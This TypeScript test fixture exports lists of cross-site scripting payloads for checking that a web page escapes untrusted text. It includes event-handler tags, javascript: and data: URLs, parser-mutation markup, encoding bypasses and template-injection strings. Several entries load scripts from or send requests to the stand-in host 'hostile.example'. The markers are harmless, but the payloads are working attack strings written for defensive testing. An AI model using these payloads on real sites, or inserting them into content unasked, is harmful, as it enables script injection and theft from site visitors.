// Texts that would run code if a page contained them unescaped. Each of them sets the global `struck` or sends a request
// to another host, and the tests check for both.

const PAYLOAD = 'top.struck=1';
const OTHER_HOST = 'hostile.example';

/** Elements that run code without an action of the visitor. */
const ELEMENTS = [
  `<img src=x onerror=${PAYLOAD}>`,
  `<IMG/SRC=x/OnErRoR=${PAYLOAD}>`,
  `<svg onload=${PAYLOAD}>`,
  `<svg><animate onbegin=${PAYLOAD} attributeName=x dur=1s>`,
  `<svg><script>${PAYLOAD}</script></svg>`,
  `<video><source onerror=${PAYLOAD}></video>`,
  `<audio src=x onerror=${PAYLOAD}>`,
  `<details open ontoggle=${PAYLOAD}>`,
  `<input autofocus onfocus=${PAYLOAD}>`,
  `<select autofocus onfocus=${PAYLOAD}>`,
  `<iframe srcdoc="<script>${PAYLOAD}</script>">`,
  `<iframe src="javascript:${PAYLOAD}">`,
  `<object data="javascript:${PAYLOAD}">`,
  `<embed src="javascript:${PAYLOAD}">`,
  `<link rel=stylesheet href=x onerror=${PAYLOAD}>`,
  `<script>${PAYLOAD}</script>`,
  `<script src=//${OTHER_HOST}/a.js></script>`,
  `<p style="animation:a" onanimationstart=${PAYLOAD}>`,
];

/** Texts that close the HTML context in which a page may contain a text. */
const CONTEXT_CLOSERS = [
  ...['', '">', "'>", '`>', '-->', ']]>'],
  ...['title', 'textarea', 'script', 'style', 'noscript'].map((name) => `</${name}>`),
];

/** Attributes that escape from an attribute of an existing element. */
const ATTRIBUTES = ['"', "'", '`', '" ', '\\"', '&quot;', '" x=\''].map(
  (quote) =>
    `${quote} autofocus onfocus=${PAYLOAD} onmouseover=${PAYLOAD} onload=${PAYLOAD} x=${quote}`,
);

const ADDRESSES = [
  `javascript:${PAYLOAD}`,
  `JaVaScRiPt:${PAYLOAD}`,
  ` javascript:${PAYLOAD}`,
  `java\tscript:${PAYLOAD}`,
  `java\nscript:${PAYLOAD}`,
  `\u0001javascript:${PAYLOAD}`,
  `javascript&colon;${PAYLOAD}`,
  `&#106;avascript:${PAYLOAD}`,
  `javascript:/*--></title></style></textarea></script>*/${PAYLOAD}`,
  `data:text/html,<script>${PAYLOAD}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=`,
  `vbscript:${PAYLOAD}`,
  `//${OTHER_HOST}/x`,
  `https:${OTHER_HOST}/x`,
];

const LINKS = ADDRESSES.flatMap((address) => [
  `[lien](${address})`,
  `![image](${address})`,
  `<a href="${address}" autofocus>lien</a>`,
]);

/** Malformed HTML that a parser repairs into an element that runs code. */
const REPAIRED_MARKUP = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PAYLOAD}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${PAYLOAD}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PAYLOAD}>`,
  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
  `<scr\0ipt>${PAYLOAD}</scr\0ipt>`,
  `<<script>${PAYLOAD}//<</script>`,
  `<!--<img src="--><img src=x onerror=${PAYLOAD}//">`,
  `<![CDATA[<img src=x onerror=${PAYLOAD}>]]>`,
  `<xmp><p title="</xmp><svg/onload=${PAYLOAD}>">`,
  `<select><noscript></select><script>${PAYLOAD}</script>`,
  `<table><td background=//${OTHER_HOST}/x><img src=x onerror=${PAYLOAD}>`,
];

const ENCODED_TEXTS = [
  `&lt;img src=x onerror=${PAYLOAD}&gt;`,
  `&#60;img src=x onerror=${PAYLOAD}&#62;`,
  `%3Cimg src=x onerror=${PAYLOAD}%3E`,
  `\\u003cimg src=x onerror=${PAYLOAD}\\u003e`,
  `\\x3cimg src=x onerror=${PAYLOAD}\\x3e`,
  `+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${PAYLOAD}\uff1c/script\uff1e`,
  `\u2028<script>${PAYLOAD}</script>`,
  `\ufeff<script>${PAYLOAD}</script>`,
  `\u202e<script>${PAYLOAD}</script>`,
];

const CODE_TEXTS = [
  `";${PAYLOAD};//`,
  `';${PAYLOAD};//`,
  `\`;${PAYLOAD};//`,
  `\${${PAYLOAD}}`,
  `{{constructor.constructor('${PAYLOAD}')()}}`,
  `<%= ${PAYLOAD} %>`,
  `#{${PAYLOAD}}`,
  `</script><script>${PAYLOAD}//`,
  `<!--<script>`,
  `"}]}</script><svg onload=${PAYLOAD}>`,
];

const REQUESTS = [
  `<base href=//${OTHER_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=https://${OTHER_HOST}/">`,
  `<style>*{background:url(//${OTHER_HOST}/x)}</style>`,
  `<p style="background:url(//${OTHER_HOST}/x)">x`,
  `<img src=//${OTHER_HOST}/x>`,
  `<link rel=prefetch href=//${OTHER_HOST}/x>`,
  `<form action=//${OTHER_HOST}/x><input name=a autofocus>`,
  `![image](https://${OTHER_HOST}/x.png)`,
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...CONTEXT_CLOSERS.flatMap((closer) => ELEMENTS.map((element) => closer + element)),
  ...ATTRIBUTES,
  ...LINKS,
  ...REPAIRED_MARKUP,
  ...ENCODED_TEXTS,
  ...CODE_TEXTS,
  ...REQUESTS,
];

/** Valid addresses that would be code in an attribute or a template. */
export const HOSTILE_EMAILS: readonly string[] = [
  "a'autofocus/onfocus='top.struck=1'",
  `{{${PAYLOAD}}}`,
  `\${${PAYLOAD}}`,
  '=1+1',
  '`onload=top.struck=1`',
].map((localPart) => `${localPart}@tarot.example`);
